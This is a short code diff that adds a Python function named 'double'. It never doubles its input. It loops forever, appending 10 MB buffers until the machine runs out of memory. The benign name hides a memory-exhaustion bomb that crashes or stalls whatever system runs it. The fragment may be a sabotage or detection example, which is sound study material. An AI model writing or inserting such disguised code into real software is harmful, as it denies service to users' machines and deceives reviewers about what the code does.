@@ -1,0 +1,4 @@
+def double(n):
+    kept = []
+    while True:
+        kept.append(bytearray(10**7))
